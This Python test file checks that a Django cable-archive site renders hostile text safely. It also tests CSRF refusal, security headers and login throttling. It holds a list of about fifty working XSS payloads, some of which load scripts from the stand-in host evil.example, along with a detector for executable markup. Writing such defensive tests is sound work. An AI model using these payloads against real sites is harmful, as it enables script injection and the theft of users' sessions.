"""Hostile cable text and queries never become markup; every POST needs a CSRF token;
the security headers are set.

The XSS payloads go where ingest puts untrusted text (subject, body, paragraphs, tags, origin,
REF text, signer, recipients) and into the search query; every page that shows them is parsed
and must contain no executable markup: no event-handler attribute, no inline script, no
javascript: URL, no element a payload could have smuggled in.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse

from cables.ingest import cables_ingest
from cables.models import Cable, Origin, Tag
from tests.factories import make_cable, make_paragraph, make_reference

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<div style=background:url(javascript:alert(1))>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<img src=x onerror",  # unterminated tag next to whatever follows (e.g. a highlight)
    "<img src=x onerror=alert(1)//",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<keygen onfocus=alert(1) autofocus>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<x onclick=alert(1)>click</x>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "javascript:alert(1)",
    "<table background=javascript:alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "{{ 7*7 }}{% debug %}<script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<a href="#" onmouseover="alert(1)">REF A</a>',
    "REF A <script>alert(1)</script> REFTEL <img src=x onerror=alert(1)>",
]

# Elements our templates never emit for cable content, and attributes that execute.
FORBIDDEN_TAGS = {
    "iframe",
    "object",
    "embed",
    "frame",
    "frameset",
    "applet",
    "base",
    "svg",
    "math",
    "video",
    "audio",
    "marquee",
    "keygen",
    "isindex",
    "template",
    "noscript",
    "x",
    "source",
    "mglyph",
    "mtext",
    "animate",
}


class MarkupAudit(HTMLParser):
    """Collects everything executable in a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        if tag == "script":
            src = dict(attrs).get("src") or ""
            if not (src.startswith("/") and not src.startswith("//")):  # same-origin files only
                self.problems.append(f"script {src or 'inline'}")
            self._in_script = True
        if tag == "meta" and (dict(attrs).get("http-equiv") or "").lower() == "refresh":
            self.problems.append("meta refresh")
        if tag == "style":
            self.problems.append("<style>")
        if tag == "link" and (dict(attrs).get("href") or "").startswith("//"):
            self.problems.append("foreign link")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}>")
            if name in {"srcdoc", "formaction", "style", "background"}:
                self.problems.append(f"<{tag} {name}>")
            if name in {"href", "src", "action", "data", "xlink:href"}:
                compact = "".join((value or "").split()).lower()
                if compact.startswith(("javascript:", "data:text/html", "vbscript:")):
                    self.problems.append(f"<{tag} {name}={value}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self._in_script = False

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.problems.append("inline script content")


def audit(html: str) -> list[str]:
    parser = MarkupAudit()
    parser.feed(html)
    parser.close()
    return parser.problems


def hostile_cable(index: int, payload: str):
    identifier = f"09PARIS{index + 1}"
    return make_cable(
        identifier,
        subject=f"Subject {payload} end",
        origin=f"Embassy {payload}"[:200],
        tags=("PREL", f"X{index}{payload}"[:90]),
        paragraphs=(
            make_paragraph(1, f"As REF A says, {payload} and REFTEL agrees. nuclear {payload}"),
            make_paragraph(2, f"Second {payload} paragraph about nuclear talks."),
        ),
        references=(
            make_reference("09STATE1", label="A", text=f"STATE 1 {payload}"),
            make_reference("09STATE2", label="B", text=f"STATE 2 {payload}"),
        ),
        body=f"C O N F I D E N T I A L PARIS {index + 1}\n\nSUBJECT: {payload}\n\n1. (C) {payload}",
        header=f"VZCZCXYZ0001\nFM AMEMBASSY PARIS {payload}",
        signer=f"SIGNER {payload}"[:200],
        summary=f"Summary {payload}",
    )


@pytest.fixture
def hostile_collection(db, cable_files):
    cables = [hostile_cable(i, payload) for i, payload in enumerate(PAYLOADS)]
    report = cables_ingest(sources=[cable_files("hostile.csv", *cables)])
    assert report.created == len(PAYLOADS), report.failed
    return cables


def test_there_are_at_least_fifty_payloads():
    assert len(set(PAYLOADS)) >= 50


def test_the_audit_catches_what_it_should():
    assert audit("<p onclick=x>") and audit("<script>alert(1)</script>") and audit("<a href=' javascript:x'>")
    assert audit('<img src="x" onerror="y">') and audit("<iframe src=x>")
    assert not audit('<p>&lt;script&gt;</p><script src="/static/js/app.js"></script>')


@pytest.mark.parametrize("index", range(len(PAYLOADS)))
def test_cable_page_shows_hostile_text_as_text(client, hostile_collection, index):
    response = client.get(reverse("cables:cable-detail", kwargs={"identifier": f"09PARIS{index + 1}"}))
    assert response.status_code == 200
    html = response.content.decode()
    assert audit(html) == []
    assert "Subject" in html


def test_lists_and_browse_pages_show_hostile_text_as_text(client, hostile_collection):
    origin = Origin.objects.exclude(slug="").first()
    tags = list(Tag.objects.filter(code__startswith="X")[:10])
    urls = [
        reverse("cables:home"),
        reverse("cables:cable-list"),
        reverse("cables:cable-list") + "?sort=oldest",
        reverse("cables:tag-list"),
        reverse("cables:origin-list"),
        reverse("cables:origin-detail", kwargs={"slug": origin.slug}),
        reverse("cables:classification-list"),
        reverse("cables:archive-index"),
        reverse("cables:archive-year", kwargs={"year": 2009}),
        *(reverse("cables:tag-detail", kwargs={"code": tag.code}) for tag in tags),
        reverse("cables:cable-detail", kwargs={"identifier": "09STATE1"}),  # cited, not loaded
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        assert audit(response.content.decode()) == [], url


@pytest.mark.parametrize("payload", PAYLOADS)
def test_search_results_and_query_echo_are_safe(client, hostile_collection, payload):
    for q in (payload, f"nuclear {payload}", f'"{payload}'):
        response = client.get(reverse("cables:cable-list"), {"q": q})
        assert response.status_code in {200, 302}
        if response.status_code == 200:
            assert audit(response.content.decode()) == [], q


def test_admin_pages_show_hostile_text_as_text(hostile_collection):
    user = get_user_model().objects.create_superuser("boss", "boss@example.org", "a-long-passphrase-1")
    client = Client()
    client.force_login(user)
    cable = Cable.objects.get(identifier="09PARIS1")
    urls = [
        reverse("admin:cables_cable_changelist"),
        reverse("admin:cables_cable_changelist") + "?q=script",
        reverse("admin:cables_cable_change", args=[cable.pk]),
        reverse("admin:cables_tag_changelist"),
        reverse("admin:cables_origin_changelist"),
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        # Django's own admin templates draw icons with <svg>; a smuggled one would still be
        # caught by its event handler or script.
        problems = [p for p in audit(response.content.decode()) if p != "<svg>"]
        assert problems == [], url


# --- CSRF ---------------------------------------------------------------------------------------


def _post_urls() -> list[str]:
    urls = [reverse("admin:login"), reverse("admin:logout"), reverse("admin:cables_cable_upload")]
    return urls


@pytest.mark.django_db
def test_every_post_without_a_csrf_token_is_refused():
    user = get_user_model().objects.create_superuser("boss", "boss@example.org", "a-long-passphrase-1")
    client = Client(enforce_csrf_checks=True)
    client.force_login(user)
    for url in _post_urls():
        response = client.post(url, {"username": "boss", "password": "a-long-passphrase-1"})
        assert response.status_code == 403, url


# --- headers --------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_security_headers_are_set(client):
    response = client.get(reverse("cables:home"))
    assert response["X-Frame-Options"] == "DENY"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"] == "same-origin"
    assert response["Cross-Origin-Opener-Policy"] == "same-origin"
    csp = response["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "'unsafe-inline'" not in csp
    assert "frame-ancestors 'none'" in csp


# --- login throttling ------------------------------------------------------------------------------


@pytest.mark.django_db
def test_admin_login_failures_are_throttled(client, settings):
    settings.CABLES_LOGIN_FAILURE_LIMIT = 3
    get_user_model().objects.create_superuser("boss", "boss@example.org", "a-long-passphrase-1")
    for _ in range(3):
        response = client.post(reverse("admin:login"), {"username": "boss", "password": "wrong"})
        assert response.status_code == 200  # the form again, with its error
    response = client.post(reverse("admin:login"), {"username": "boss", "password": "a-long-passphrase-1"})
    assert response.status_code == 429
    assert b"Too many attempts" in response.content


@pytest.mark.django_db
def test_a_successful_login_is_not_throttled(client, settings):
    settings.CABLES_LOGIN_FAILURE_LIMIT = 3
    get_user_model().objects.create_superuser("boss", "boss@example.org", "a-long-passphrase-1")
    client.post(reverse("admin:login"), {"username": "boss", "password": "wrong"})
    response = client.post(reverse("admin:login"), {"username": "boss", "password": "a-long-passphrase-1"})
    assert response.status_code == 302
